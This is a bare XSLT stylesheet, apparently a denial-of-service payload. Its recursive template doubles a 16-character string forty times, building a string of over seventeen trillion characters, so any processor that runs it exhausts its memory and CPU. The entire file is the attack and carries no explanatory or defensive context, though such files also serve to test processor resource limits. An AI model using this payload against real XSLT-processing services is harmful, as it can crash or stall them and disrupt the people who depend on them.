<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:template match="/"><html><xsl:call-template name="d"><xsl:with-param name="s" select="'xxxxxxxxxxxxxxxx'"/><xsl:with-param name="n" select="40"/></xsl:call-template></html></xsl:template>
<xsl:template name="d"><xsl:param name="s"/><xsl:param name="n"/><xsl:choose><xsl:when test="$n &gt; 0"><xsl:call-template name="d"><xsl:with-param name="s" select="concat($s,$s)"/><xsl:with-param name="n" select="$n - 1"/></xsl:call-template></xsl:when><xsl:otherwise><xsl:value-of select="string-length($s)"/></xsl:otherwise></xsl:choose></xsl:template>
</xsl:stylesheet>
